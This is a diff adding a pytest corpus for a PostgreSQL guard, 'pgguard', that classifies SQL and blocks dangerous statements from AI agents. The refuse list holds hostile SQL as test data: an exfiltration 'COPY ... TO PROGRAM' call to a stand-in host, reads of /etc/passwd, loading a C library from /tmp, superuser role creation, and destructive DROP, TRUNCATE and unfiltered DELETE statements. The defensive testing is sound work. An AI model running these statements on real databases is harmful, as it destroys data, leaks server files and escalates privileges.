@@ -1,0 +1,477 @@
+# The policy corpus: statements with their expected kind, flags and default-agent decision.
+"""Classification and decision of a corpus of tricky statements.
+
+Each entry: (sql, kinds, flags, decision[, extra]) where ``kinds`` is the statement kind
+(comma-separated for a multi-statement text), ``flags`` the union of flags (space
+separated, "" for none), ``decision`` what a generic agent gets under the default policy
+(``agents = "guarded"``), and ``extra`` optional expectations on relations and functions.
+"""
+from __future__ import annotations
+
+import pytest
+
+from pgguard.config import Identity, loads
+import pgguard.policy.classify as classify_mod
+from pgguard.policy import PolicyEngine
+from pgguard.policy.classify import classify
+
+B, A = "block", "allow"
+
+REFUSE = [
+    # DROP of anything
+    ("DROP INDEX orders_pkey", "drop", "destructive", B,
+     {"written": ["public.orders_pkey"]}),
+    ("DROP INDEX CONCURRENTLY IF EXISTS app.orders_idx", "drop", "destructive", B,
+     {"written": ["app.orders_idx"]}),
+    ("DROP TABLE orders", "drop", "destructive", B),
+    ("drop table if exists a, s.b cascade", "drop", "destructive", B,
+     {"written": ["public.a", "s.b"]}),
+    ("DROP VIEW v", "drop", "destructive", B),
+    ("DROP MATERIALIZED VIEW mv", "drop", "destructive", B),
+    ("DROP SCHEMA app CASCADE", "drop", "destructive", B),
+    ("DROP DATABASE app", "drop", "destructive", B),
+    ("DROP FUNCTION f(int)", "drop", "destructive", B),
+    ("DROP EXTENSION pgcrypto", "drop", "destructive escape", B),
+    ("DROP ROLE bob", "drop", "destructive privilege", B),
+    ("DROP OWNED BY bob", "drop", "destructive privilege", B),
+    ("DROP SEQUENCE s", "drop", "destructive", B),
+    ("DROP TRIGGER tr ON t", "drop", "destructive", B),
+    ("DROP POLICY p ON t", "drop", "destructive privilege", B),
+    ("DROP TYPE mood", "drop", "destructive", B),
+    ('DROP TABLE "my table"', "drop", "destructive", B, {"written": ["public.my table"]}),
+    ('drop table U&"\\0064rop"', "drop", "destructive", B, {"written": ["public.drop"]}),
+    # TRUNCATE
+    ("TRUNCATE orders", "truncate", "destructive write", B, {"written": ["public.orders"]}),
+    ("TRUNCATE TABLE a, b RESTART IDENTITY", "truncate", "destructive write", B),
+    # DELETE / UPDATE with no WHERE or a constant-true one
+    ("DELETE FROM orders", "delete", "destructive write", B, {"written": ["public.orders"]}),
+    ("delete from t where 1=1", "delete", "destructive write", B),
+    ("delete from t where true", "delete", "destructive write", B),
+    ("delete from t where 'a'='a'", "delete", "destructive write", B),
+    ("delete from t where not false", "delete", "destructive write", B),
+    ("delete from t where 1 = 1 or id = 5", "delete", "destructive write", B),
+    ("delete from t where id = 1 or true", "delete", "destructive write", B),
+    ("delete from t where id = id", "delete", "destructive write", B),
+    ("DELETE FROM t WHERE 2 > 1", "delete", "destructive write", B),
+    ("delete from t where 1 <> 2", "delete", "destructive write", B),
+    ("delete from t where '1' = 1", "delete", "destructive write", B),
+    ("delete from t where null is null", "delete", "destructive write", B),
+    ("delete from t where true is true", "delete", "destructive write", B),
+    ("delete from t where 't'::boolean", "delete", "destructive write", B),
+    ("delete from t where 1::bool", "delete", "destructive write", B),
+    ("delete from t where (1 = 1) and (2 = 2)", "delete", "destructive write", B),
+    ("DELETE FROM t WHERE now() > '2000-01-01'", "delete", "destructive write", B),
+    ("delete from t where exists (select 1)", "delete", "destructive write", B),
+    ("delete from t where random() < 2", "delete", "destructive write", B),
+    ("delete from only t", "delete", "destructive write", B),
+    ("DELETE FROM t USING u", "delete", "destructive write", B,
+     {"written": ["public.t"], "read": ["public.u"]}),
+    ('delete from "Orders"', "delete", "destructive write", B, {"written": ["public.Orders"]}),
+    ('DELETE FROM U&"d\\0061ta"', "delete", "destructive write", B,
+     {"written": ["public.data"]}),
+    ("DELETE FROM app.orders WHERE TRUE", "delete", "destructive write", B,
+     {"written": ["app.orders"]}),
+    ("UPDATE accounts SET balance = 0", "update", "destructive write", B),
+    ("update t set a = 1 where 1 = 1", "update", "destructive write", B),
+    ("UPDATE t SET a = 1 FROM u", "update", "destructive write", B),
+    ("update t set a = 1 where 'x' = 'x' or a = 2", "update", "destructive write", B),
+    # data-modifying CTEs
+    ("WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d", "select",
+     "destructive write", B, {"written": ["public.t"], "read": [], "kinds": ["select", "delete"]}),
+    ("WITH u AS (UPDATE t SET x = 1 RETURNING id) SELECT count(*) FROM u", "select",
+     "destructive write", B),
+    ("WITH RECURSIVE r AS (SELECT 1 UNION ALL SELECT 1 FROM r) DELETE FROM t", "delete",
+     "destructive write", B),
+    ("with a as (select 1), b as (delete from t where true returning 1) select * from a, b",
+     "select", "destructive write", B),
+    # EXPLAIN ANALYZE runs the statement
+    ("EXPLAIN ANALYZE DELETE FROM t", "explain", "destructive write", B,
+     {"kinds": ["explain", "delete"]}),
+    ("EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET a = 1", "explain", "destructive write", B),
+    ("explain (analyze true) delete from t", "explain", "destructive write", B),
+    ("explain (analyze 1, format json) delete from t", "explain", "destructive write", B),
+    ("explain analyze select pg_read_file('/etc/passwd')", "explain", "escape", B),
+    ("EXPLAIN ANALYZE EXECUTE never_prepared", "explain", "opaque", B),
+    # DO blocks and function bodies
+    ("DO $$ BEGIN EXECUTE 'drop table t'; END $$", "do", "destructive opaque", B),
+    ("DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$", "do", "opaque", B),
+    ("DO $$ BEGIN DELETE FROM t; END $$", "do", "destructive write", B),
+    ("do $$ declare r record; begin for r in select * from t loop delete from u; end loop; "
+     "end $$", "do", "destructive write", B),
+    ("DO $$ BEGIN PERFORM pg_read_file('/etc/passwd'); END $$", "do", "escape", B),
+    ("do $$ begin truncate t; end $$", "do", "destructive write", B),
+    ("do $x$ declare n int; begin n := (select count(*) from pg_ls_dir('.')); end $x$", "do",
+     "escape", B),
+    ("DO $$ BEGIN IF true THEN UPDATE t SET a = 1; END IF; END $$", "do",
+     "destructive write", B),
+    ("DO $$ DECLARE c refcursor; BEGIN OPEN c FOR EXECUTE 'select 1'; END $$", "do", "opaque", B),
+    ("DO LANGUAGE plpython3u $$ import os $$", "do", "escape opaque", B),
+    ("DO LANGUAGE plv8 $$ plv8.execute('drop table t') $$", "do", "opaque", B),
+    ("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DROP TABLE t; END $$",
+     "create", "destructive", B),
+    ("CREATE OR REPLACE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'x'; END $$",
+     "create", "opaque", B),
+    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'DELETE FROM t RETURNING 1'", "create",
+     "destructive write", B),
+    ("CREATE FUNCTION f() RETURNS int LANGUAGE sql BEGIN ATOMIC; DELETE FROM t; SELECT 1; END",
+     "create", "destructive write", B),
+    ("create function f() returns int language sql security definer as 'select 1'", "create",
+     "privilege", B),
+    ("CREATE FUNCTION evil() RETURNS int AS '/tmp/evil.so', 'evil' LANGUAGE C", "create",
+     "escape opaque", B),
+    ("create function h() returns void language plpython3u as 'import os'", "create",
+     "escape opaque", B),
+    ("ALTER FUNCTION f() SECURITY DEFINER", "alter", "privilege", B),
+    ("CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u", "create",
+     "destructive write", B),
+    # COPY forms that reach the server's files or shell
+    ("COPY t TO PROGRAM 'curl -d @- evil.example'", "copy", "escape", B),
+    ("COPY t FROM PROGRAM 'cat /etc/passwd'", "copy", "escape write", B),
+    ("COPY t FROM '/etc/passwd'", "copy", "escape write", B),
+    ("COPY t TO '/tmp/out.csv'", "copy", "escape", B),
+    ("COPY (SELECT * FROM t) TO '/tmp/x'", "copy", "escape", B),
+    ("COPY (DELETE FROM t RETURNING *) TO STDOUT", "copy", "destructive write", B),
+    # escape functions, anywhere in the tree
+    ("select pg_read_file('/etc/passwd')", "select", "escape", B,
+     {"functions": ["pg_read_file"]}),
+    ("SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)", "select", "escape", B,
+     {"functions": ["pg_catalog.pg_read_file"]}),
+    ("select pg_read_binary_file('x')", "select", "escape", B),
+    ("select * from pg_ls_dir('.')", "select", "escape", B),
+    ("select pg_stat_file('postgresql.conf')", "select", "escape", B),
+    ("select lo_import('/etc/passwd')", "select", "escape", B),
+    ("select lo_export(1234, '/tmp/x')", "select", "escape", B),
+    ("SELECT lo_export(oid, '/tmp/x') FROM pg_largeobject_metadata", "select", "escape", B),
+    ("select dblink('host=evil', 'select 1')", "select", "escape", B),
+    ("select dblink_exec('dbname=x', 'drop table t')", "select", "escape", B),
+    ("select * from dblink('a', 'b') as t(x int)", "select", "escape", B),
+    ("select pg_terminate_backend(123)", "select", "escape", B),
+    ("select pg_cancel_backend(pid) from pg_stat_activity", "select", "escape", B),
+    ("select pg_reload_conf()", "select", "escape", B),
+    ("select pg_rotate_logfile()", "select", "escape", B),
+    ("select pg_file_write('x', 'y', false)", "select", "escape", B),
+    ("SELECT * FROM t WHERE id = (SELECT length(pg_read_file('x')))", "select", "escape", B),
+    ("select * from t, lateral (select pg_ls_dir('.')) x", "select", "escape", B),
+    ("select (select dblink('a','b'))", "select", "escape", B),
+    ("select coalesce(null, pg_read_file('x'))", "select", "escape", B),
+    ("VALUES (pg_read_file('x'))", "select", "escape", B),
+    ("INSERT INTO log SELECT pg_read_file('x')", "insert", "escape write", B),
+    ("CREATE VIEW v AS SELECT pg_read_file('/etc/passwd')", "create", "escape", B),
+    ("CREATE TABLE t2 AS SELECT pg_read_file('x')", "create", "escape", B),
+    ("SELECT * INTO t2 FROM pg_ls_dir('.') x", "create", "escape", B),
+    ("create table t (x text default pg_read_file('/etc/passwd'))", "create", "escape", B),
+    ("ALTER TABLE t ADD COLUMN x text DEFAULT pg_read_file('/etc/passwd')", "alter",
+     "escape", B),
+    ("create operator ### (function = pg_read_file, rightarg = text)", "create", "escape", B),
+    ("select query_to_xml('delete from t', true, true, '')", "select", "opaque", B),
+    ("select ts_stat('select vector from docs')", "select", "opaque", B),
+    # privilege
+    ("SET ROLE postgres", "set", "privilege", B),
+    ("set role none", "set", "privilege", B),
+    ("SET LOCAL ROLE admin", "set", "privilege", B),
+    ("RESET ROLE", "reset", "privilege", B),
+    ("SET SESSION AUTHORIZATION postgres", "set", "privilege", B),
+    ("RESET SESSION AUTHORIZATION", "reset", "privilege", B),
+    ("set session authorization default", "set", "privilege", B),
+    ("select set_config('role','postgres',false)", "select", "privilege", B),
+    ("SELECT pg_catalog.set_config('ROLE', 'postgres', true)", "select", "privilege", B),
+    ("select set_config(name, 'x', false) from t", "select", "privilege", B),
+    ("SET session_replication_role = replica", "set", "privilege", B),
+    ("DISCARD ALL", "discard", "privilege", B),
+    ("GRANT SELECT ON orders TO bob", "grant", "privilege", B),
+    ("GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO bob", "grant", "privilege", B),
+    ("grant admin to bob", "grant", "privilege", B),
+    ("REVOKE ALL ON t FROM PUBLIC", "revoke", "privilege", B),
+    ("CREATE ROLE hacker SUPERUSER LOGIN", "create", "privilege", B),
+    ("CREATE USER eve WITH PASSWORD 'x'", "create", "privilege", B),
+    ("ALTER ROLE bob SUPERUSER", "alter", "privilege", B),
+    ("ALTER USER bob WITH PASSWORD 'x'", "alter", "privilege", B),
+    ("ALTER ROLE bob RENAME TO robert", "alter", "privilege", B),
+    ("ALTER ROLE bob SET role = 'admin'", "alter", "privilege", B),
+    ("ALTER DATABASE app SET role = 'postgres'", "alter", "privilege", B),
+    ("ALTER TABLE t OWNER TO bob", "alter", "privilege", B),
+    ("ALTER FUNCTION f() OWNER TO bob", "alter", "privilege", B),
+    ("ALTER SCHEMA s OWNER TO bob", "alter", "privilege", B),
+    ("ALTER DEFAULT PRIVILEGES GRANT ALL ON TABLES TO bob", "alter", "privilege", B),
+    ("REASSIGN OWNED BY bob TO alice", "reassign", "privilege", B),
+    ("ALTER TABLE t DISABLE ROW LEVEL SECURITY", "alter", "privilege", B),
+    ("CREATE POLICY p ON t USING (true)", "create", "privilege", B),
+    ("SECURITY LABEL ON TABLE t IS 'x'", "security_label", "privilege", B),
+    # escape: extensions, server configuration, libraries, remote servers
+    ("CREATE EXTENSION dblink", "create", "escape", B),
+    ("create extension if not exists plpython3u", "create", "escape", B),
+    ("ALTER EXTENSION pg_trgm UPDATE", "alter", "escape", B),
+    ("ALTER SYSTEM SET shared_buffers = '8GB'", "alter", "escape", B),
+    ("ALTER SYSTEM RESET ALL", "alter", "escape", B),
+    ("LOAD 'auto_explain'", "load", "escape", B),
+    ("create language plperlu", "create", "escape", B),
+    ("CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil')", "create",
+     "escape", B),
+    ("CREATE USER MAPPING FOR CURRENT_USER SERVER s", "create", "escape", B),
+    ("IMPORT FOREIGN SCHEMA public FROM SERVER s INTO local", "create", "escape", B),
+    ("CREATE SUBSCRIPTION sub CONNECTION 'host=evil' PUBLICATION p", "create", "escape", B),
+    ("set standard_conforming_strings = off", "set", "escape", B),
+    ("SET client_encoding TO 'SJIS'", "set", "escape", B),
+    ("SET NAMES 'BIG5'", "set", "escape", B),
+    # ALTER TABLE ... DROP
+    ("ALTER TABLE t DROP COLUMN c", "alter", "destructive", B, {"written": ["public.t"]}),
+    ("ALTER TABLE t DROP CONSTRAINT t_pkey", "alter", "destructive", B),
+    ("alter table if exists t drop column if exists c cascade", "alter", "destructive", B),
+    ("ALTER TABLE t ADD COLUMN n int, DROP COLUMN c", "alter", "destructive", B),
+    # MERGE
+    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", "merge",
+     "destructive write", B, {"written": ["public.t"], "read": ["public.s"]}),
+    ("MERGE INTO t USING s ON true WHEN MATCHED THEN UPDATE SET a = 1", "merge",
+     "destructive write", B),
+    ("MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE", "merge",
+     "destructive write", B),
+    ("MERGE INTO t USING t AS s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = 0", "merge",
+     "destructive write", B),
+    # PREPARE / EXECUTE / CALL
+    ("PREPARE p AS DELETE FROM t", "prepare", "destructive write", B,
+     {"kinds": ["prepare", "delete"]}),
+    ("PREPARE p(bool) AS DELETE FROM t WHERE $1", "prepare", "destructive write", B),
+    ("PREPARE p AS SELECT pg_read_file('x')", "prepare", "escape", B),
+    ("PREPARE p AS DELETE FROM t; EXECUTE p", "prepare,execute", "destructive write", B),
+    ("EXECUTE unknown_stmt", "execute", "opaque", B),
+    ("PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p", "prepare,deallocate,execute",
+     "opaque", B),
+    ("CALL do_everything()", "call", "opaque", B, {"functions": ["do_everything"]}),
+    ("CALL public.cleanup(30)", "call", "opaque", B),
+    # several statements: one refused statement refuses the text
+    ("SELECT 1; DROP TABLE t", "select,drop", "destructive", B),
+    ("select 1; delete from t", "select,delete", "destructive write", B),
+    ("BEGIN; DELETE FROM t; COMMIT", "begin,delete,commit", "destructive write", B),
+    ("select 1;;; select 2; truncate t", "select,select,truncate", "destructive write", B),
+]
+
+ALLOW = [
+    # keywords inside literals, comments, quoted identifiers
+    ("SELECT 'DROP TABLE x'", "select", "", A),
+    ("SELECT 1 -- DROP TABLE x", "select", "", A),
+    ("/* drop */ select 1", "select", "", A),
+    ("select 1 /* ; drop table t; */", "select", "", A),
+    ("select $$drop table t$$", "select", "", A),
+    ("select $tag$; drop table t; $tag$", "select", "", A),
+    ("select drop_count from t", "select", "", A, {"read": ["public.t"]}),
+    ('select "drop table" from t', "select", "", A),
+    ('select * from "delete" where "truncate" = 1', "select", "", A,
+     {"read": ["public.delete"]}),
+    ("SELECT * FROM orders WHERE note = 'x; DROP TABLE orders; --'", "select", "", A),
+    ("select 'pg_read_file(''/etc/passwd'')'", "select", "", A),
+    ("select e'\\'; drop table t; --'", "select", "", A),
+    ("select U&'\\0064rop table t'", "select", "", A),
+    ('select 1 as "drop table t"', "select", "", A),
+    ("select pg_read_file_count from t", "select", "", A),
+    ("INSERT INTO orders (id, note) VALUES (1, 'DELETE FROM orders')", "insert", "write", A,
+     {"written": ["public.orders"], "read": []}),
+    ("COMMENT ON TABLE t IS 'drop table t'", "comment", "", A),
+    # EXPLAIN without ANALYZE does not run anything
+    ("EXPLAIN DELETE FROM t", "explain", "", A, {"written": [], "read": ["public.t"]}),
+    ("EXPLAIN (ANALYZE false) DELETE FROM t", "explain", "", A),
+    ("explain (analyze off, costs off) update t set a = 1", "explain", "", A),
+    ("EXPLAIN SELECT * FROM orders", "explain", "", A),
+    ("EXPLAIN ANALYZE SELECT * FROM orders", "explain", "", A),
+    ("explain (verbose, format json) truncate t", None, "", B),  # not explainable: parse error
+    # DELETE / UPDATE with a real WHERE
+    ("DELETE FROM t WHERE id = 5", "delete", "write", A),
+    ("delete from orders where created_at < now() - interval '1 year'", "delete", "write", A),
+    ("UPDATE accounts SET balance = balance - 10 WHERE id = 42", "update", "write", A),
+    ("update t set a = 1 where id in (1, 2, 3)", "update", "write", A),
+    ("delete from t where id = 1 and 1 = 1", "delete", "write", A),
+    ("delete from t where false", "delete", "write", A),
+    ("delete from t where 1 = 2", "delete", "write", A),
+    ("delete from t where id = $1", "delete", "write", A),
+    ("update t set a = a + 1 where id = $1", "update", "write", A),
+    ("UPDATE t SET a = 1 WHERE CURRENT OF c", "update", "write", A),
+    ("DELETE FROM t USING u WHERE t.id = u.id", "delete", "write", A),
+    ("with x as (delete from t where id = 1 returning *) select * from x", "select", "write", A),
+    ("WITH ins AS (INSERT INTO t VALUES (1) RETURNING id) SELECT * FROM ins", "select",
+     "write", A),
+    # harmless DO blocks and functions
+    ("DO $$ BEGIN RAISE NOTICE 'hello'; END $$", "do", "", A),
+    ("DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM orders; RAISE NOTICE '%', n; "
+     "END $$", "do", "", A),
+    ("DO $$ BEGIN UPDATE t SET a = 1 WHERE id = 3; END $$", "do", "write", A),
+    ("do $$ begin perform 'drop table t'; end $$", "do", "", A),
+    ("do $$ declare x int; begin x := 1 + 2; end $$", "do", "", A),
+    ("CREATE FUNCTION add(a int, b int) RETURNS int LANGUAGE sql AS 'SELECT a + b'", "create",
+     "", A),
+    ("CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN 1; END $$",
+     "create", "", A),
+    ("CREATE FUNCTION g(x int) RETURNS int RETURN x + 1", "create", "", A),
+    # COPY to and from the client
+    ("COPY t FROM STDIN", "copy", "write", A, {"written": ["public.t"]}),
+    ("COPY t TO STDOUT", "copy", "", A, {"read": ["public.t"]}),
+    ("COPY (SELECT * FROM t) TO STDOUT WITH CSV", "copy", "", A),
+    ("copy t (a, b) from stdin with (format csv)", "copy", "write", A),
+    # settings and session
+    ("SET search_path = app, public", "set", "", A),
+    ("SET statement_timeout = '5s'", "set", "", A),
+    ("SET standard_conforming_strings = on", "set", "", A),
+    ("set client_encoding = 'UTF8'", "set", "", A),
+    ("SET TRANSACTION ISOLATION LEVEL SERIALIZABLE", "set", "", A),
+    ("RESET ALL", "reset", "", A),
+    ("SHOW search_path", "show", "", A),
+    ("DISCARD PLANS", "discard", "", A),
+    ("BEGIN", "begin", "", A),
+    ("START TRANSACTION ISOLATION LEVEL REPEATABLE READ", "begin", "", A),
+    ("COMMIT", "commit", "", A),
+    ("ROLLBACK", "rollback", "", A),
+    ("SAVEPOINT a", "savepoint", "", A),
+    ("RELEASE a", "release", "", A),
+    ("ROLLBACK TO SAVEPOINT a", "rollback", "", A),
+    ("end", "commit", "", A),
+    # prepared statements
+    ("PREPARE p AS SELECT * FROM t WHERE id = $1", "prepare", "", A),
+    ("PREPARE q (int) AS UPDATE t SET a = 1 WHERE id = $1", "prepare", "write", A),
+    ("PREPARE p2 AS SELECT 1; EXECUTE p2", "prepare,execute", "", A),
+    ("DEALLOCATE p", "deallocate", "", A),
+    ("DEALLOCATE ALL", "deallocate", "", A),
+    # schema changes that destroy nothing
+    ("CREATE TABLE t (id int primary key)", "create", "", A, {"written": ["public.t"]}),
+    ("CREATE TABLE s.t (id int REFERENCES u(id))", "create", "", A),
+    ("CREATE INDEX ON t (a)", "create", "", A),
+    ("CREATE VIEW v AS SELECT * FROM t", "create", "", A,
+     {"written": ["public.v"], "read": ["public.t"]}),
+    ("ALTER TABLE t ADD COLUMN note text", "alter", "", A),
+    ("ALTER TABLE t RENAME COLUMN a TO b", "alter", "", A),
+    ("CREATE TEMP TABLE tmp AS SELECT * FROM t", "create", "", A,
+     {"written": ["pg_temp.tmp"], "read": ["public.t"]}),
+    ("CREATE SCHEMA reports", "create", "", A),
+    ("VACUUM ANALYZE t", "vacuum", "", A),
+    ("ANALYZE t", "analyze", "", A),
+    ("LOCK TABLE t IN SHARE MODE", "lock", "", A),
+    # everyday reads and writes
+    ("LISTEN ch", "listen", "", A),
+    ("NOTIFY ch, 'x'", "notify", "", A),
+    ("UNLISTEN *", "unlisten", "", A),
+    ("DECLARE c CURSOR FOR SELECT * FROM t", "declare", "", A),
+    ("FETCH 10 FROM c", "fetch", "", A),
+    ("MOVE NEXT IN c", "move", "", A),
+    ("CLOSE c", "close", "", A),
+    ("SELECT nextval('s')", "select", "", A),
+    ("select pg_sleep(1)", "select", "", A),
+    ("select now(), current_user, version()", "select", "", A),
+    ("WITH x AS (SELECT 1) SELECT * FROM x", "select", "", A, {"read": []}),
+    ("select * from t for update", "select", "", A),
+    ("VALUES (1), (2)", "select", "", A),
+    ("TABLE t", "select", "", A, {"read": ["public.t"]}),
+    ("select count(*) from pg_stat_activity", "select", "", A),
+    ("select lower(name) from users where id = 1", "select", "", A,
+     {"functions": ["lower"], "read": ["public.users"]}),
+    ("SELECT abalance FROM pgbench_accounts WHERE aid = 42", "select", "", A,
+     {"read": ["public.pgbench_accounts"]}),
+    ("select a.x, b.y from s.a a join b on a.id = b.id join c using (k)", "select", "", A,
+     {"read": ["s.a", "public.b", "public.c"]}),
+    ("select * from t where id in (select id from u where u.x > 3)", "select", "", A,
+     {"read": ["public.t", "public.u"]}),
+    ("INSERT INTO t (a) SELECT b FROM u ON CONFLICT (a) DO UPDATE SET a = excluded.a",
+     "insert", "write", A, {"written": ["public.t"], "read": ["public.u"]}),
+    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED AND s.deleted THEN DELETE", "merge",
+     "write", A),
+    ("MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET a = s.a "
+     "WHEN NOT MATCHED THEN INSERT VALUES (s.id, s.a)", "merge", "write", A),
+    ("select 1; select 2", "select,select", "", A),
+    ("SELECT 'é' AS \"ü\"; SELECT 2", "select,select", "", A),
+]
+
+PARSE_ERRORS = [
+    "select from where",
+    "DELETE FROM",
+    "PREPARE q AS DROP TABLE t",
+    "DROP TABLE t; selec 1",
+    "select 'unterminated",
+    "select $$unterminated",
+    "DO $$ BEGIN $$ $$",
+]
+
+CORPUS = REFUSE + ALLOW
+
+
+def test_corpus_is_large_enough():
+    assert len(CORPUS) + len(PARSE_ERRORS) >= 150
+
+
+def _ids(entries):
+    return [e[0][:60] for e in entries]
+
+
+@pytest.fixture(scope="module")
+def engine():
+    return PolicyEngine(loads(""))
+
+
+@pytest.mark.parametrize("entry", CORPUS, ids=_ids(CORPUS))
+def test_classification(entry):
+    sql, kinds, flags, decision = entry[:4]
+    extra = entry[4] if len(entry) > 4 else {}
+    if kinds is None:
+        with pytest.raises(classify_mod.PolicyParseError):
+            classify(sql)
+        return
+    stmts = classify(sql)
+    assert ",".join(s.kind for s in stmts) == kinds
+    got = set()
+    for s in stmts:
+        got.update(s.flags)
+        # every flag comes with at least one reason
+        for f in s.flags:
+            assert s.reasons_for(f), (f, s)
+    assert got == set(flags.split()), stmts
+    st = stmts[0] if len(stmts) == 1 else None
+    if st is not None:
+        if "written" in extra:
+            assert list(st.relations_written) == extra["written"]
+        if "read" in extra:
+            assert list(st.relations_read) == extra["read"]
+        if "functions" in extra:
+            assert list(st.functions) == extra["functions"]
+        if "kinds" in extra:
+            assert list(st.kinds) == extra["kinds"]
+
+
+@pytest.mark.parametrize("entry", CORPUS, ids=_ids(CORPUS))
+def test_default_agent_decision(engine, entry):
+    sql, _, flags, decision = entry[:4]
+    d = engine.decide(sql, "agent-x", Identity(kind="agent"), "app")
+    assert d.action == decision, d
+    if decision == "block":
+        assert d.rule in ("guarded-default", "parse-error")
+        assert d.rule in d.message
+        assert d.detail and d.hint
+    again = engine.decide(sql, "agent-x", Identity(kind="agent"), "app")
+    if "EXECUTE" in sql.upper():
+        assert again == d            # depends on the session's prepared statements: uncached
+    else:
+        assert again is d            # served from the exact cache
+
+
+@pytest.mark.parametrize("entry", CORPUS, ids=_ids(CORPUS))
+def test_fast_path_matches_slow_path(entry):
+    sql = entry[0]
+    if entry[1] is None:
+        return
+    fast = classify(sql)
+    classify_mod._USE_FAST = False
+    try:
+        slow = classify(sql)
+    finally:
+        classify_mod._USE_FAST = True
+    assert fast == slow
+
+
+@pytest.mark.parametrize("sql", PARSE_ERRORS)
+def test_parse_errors_are_refused(engine, sql):
+    with pytest.raises(classify_mod.PolicyParseError):
+        classify(sql)
+    d = engine.decide(sql, "agent-x", Identity(kind="agent"), "app")
+    assert d.action == "block" and d.rule == "parse-error"
+    assert "parse-error" in d.message
+
+
+def test_humans_allowed_by_default(engine):
+    human = Identity(kind="human")
+    for sql, kinds, *_ in CORPUS:
+        d = engine.decide(sql, "alice", human, "app")
+        assert d.action == ("block" if kinds is None else "allow"), (sql, d)
